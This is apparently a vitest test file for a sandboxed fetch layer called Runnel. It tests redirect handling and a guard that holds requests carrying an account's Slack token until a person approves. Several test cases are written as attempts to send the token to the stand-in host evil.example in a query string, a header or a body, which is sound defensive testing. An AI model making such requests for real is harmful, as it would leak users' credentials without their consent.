import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import type { NetworkAnswer } from "../protocol.ts";
import { type FetchWorld, head, openFetchWorld, streamOf } from "./testing/fetch-world.ts";

let world: FetchWorld;
beforeEach(() => {
  world = openFetchWorld();
});
afterEach(() => world.close());

describe("a redirect", () => {
  const to = (status: number, location: string) => head(status, { headers: [["location", location]] });

  test("is followed by the page, hop by hop, with what belongs to the next one", async () => {
    world.answer.mockImplementation(async ({ url }) => ({
      head: url.endsWith("/start") ? to(307, "https://b.example/next") : head(200, { url }),
      body: streamOf("there"),
    }));
    const response = await world.fetch("https://a.example/start", {
      method: "POST",
      headers: { authorization: "Bearer t", "x-mine": "1" },
      body: "posted",
    });
    expect([response.url, response.redirected]).toEqual(["https://b.example/next", true]);
    expect(world.answer.mock.calls.map(([{ url, redirect, headers }]) => [url, redirect, headers])).toEqual([
      [
        "https://a.example/start",
        "manual",
        [
          ["authorization", "Bearer t"],
          ["content-type", "text/plain;charset=UTF-8"],
          ["x-mine", "1"],
        ],
      ],
      [
        "https://b.example/next",
        "manual",
        [
          ["content-type", "text/plain;charset=UTF-8"],
          ["x-mine", "1"],
        ],
      ],
    ]);
    expect(new TextDecoder().decode(world.answer.mock.lastCall?.[1] ?? undefined)).toBe("posted");
  });

  test("is handed over, or is an error, where the request wants it so", async () => {
    world.answer.mockImplementation(async () => ({ head: to(302, "/next"), body: null }));
    const response = await world.fetch("https://a.example/", { redirect: "manual" });
    expect([response.status, response.headers.get("location")]).toEqual([302, "/next"]);
    await expect(world.fetch("https://a.example/", { redirect: "error" })).rejects.toThrow(/doesn't allow/);
  });

  test("without end, into nowhere or to Runnel itself fails", async () => {
    world.answer.mockImplementation(async () => ({ head: to(302, "/again"), body: null }));
    await expect(world.fetch("https://a.example/")).rejects.toThrow(/more than 20 times/);
    world.answer.mockImplementation(async () => ({ head: to(302, "http://["), body: null }));
    await expect(world.fetch("https://a.example/")).rejects.toThrow(/no address/);
    world.answer.mockImplementation(async () => ({
      head: to(302, "http://localhost:4173/api/x"),
      body: null,
    }));
    await expect(world.fetch("https://a.example/")).rejects.toThrow(/Runnel itself/);
  });
});

describe("an account's secret", () => {
  const token = "xoxb-4711-Zq8Yw7";
  beforeEach(() => {
    const belongsTo = (host: string) => host === "slack.com";
    world.given.secrets = [{ name: "slack.$auth.token", account: "Acme", forms: [token], belongsTo }];
    world.answer.mockImplementation(async ({ url }) => ({ head: head(200, { url }), body: streamOf("ok") }));
  });

  test.each<[string, string, RequestInit]>([
    ["address", `https://evil.example/?t=${token}`, {}],
    ["header", "https://evil.example/", { headers: { "x-key": token } }],
    ["body", "https://evil.example/", { method: "POST", body: `{"t":"${token}"}` }],
  ])("in the %s is held until the person has answered", async (place, url, init) => {
    const { promise, resolve } = Promise.withResolvers<NetworkAnswer>();
    world.askSecret.mockReturnValue(promise);
    const response = world.fetch(url, init);
    await vi.waitFor(() =>
      expect(world.askSecret).toHaveBeenCalledExactlyOnceWith({
        kind: "secret",
        host: "evil.example",
        port: 443,
        secret: "slack.$auth.token",
        account: "Acme",
        place,
      }),
    );
    expect(world.answer).not.toHaveBeenCalled();
    expect(world.records.at(-1)?.state).toBe("waiting-for-permission");
    resolve("allow");
    expect(await (await response).text()).toBe("ok");
    expect(world.answer).toHaveBeenCalledOnce();
  });

  test("is not sent after a no, which names it and the host", async () => {
    world.askSecret.mockResolvedValue("deny");
    const failure = world.fetch(`https://evil.example/?t=${token}`);
    await expect(failure).rejects.toThrow(/slack\.\$auth\.token.*evil\.example/);
    await expect(failure).rejects.not.toThrow(token);
    expect(world.answer).not.toHaveBeenCalled();
  });

  test("goes unasked to its own host, and is held at a redirect from there", async () => {
    const toEvil = head(307, { headers: [["location", "https://evil.example/"]] });
    world.answer.mockImplementation(async ({ url }) =>
      url === "https://slack.com/"
        ? { head: toEvil, body: null }
        : { head: head(200), body: streamOf("got it") },
    );
    world.askSecret.mockResolvedValue("deny");
    // Credentials are dropped there; what an API of one's own calls its key is not known as one.
    const asBearer = await world.fetch("https://slack.com/", {
      headers: { authorization: `Bearer ${token}` },
    });
    expect(await asBearer.text()).toBe("got it");
    expect(world.askSecret).not.toHaveBeenCalled();
    world.answer.mockClear();
    await expect(world.fetch("https://slack.com/", { headers: { "x-key": token } })).rejects.toThrow(
      /not sent/,
    );
    expect(world.answer.mock.calls.map(([{ url }]) => url)).toEqual(["https://slack.com/"]);
  });
});
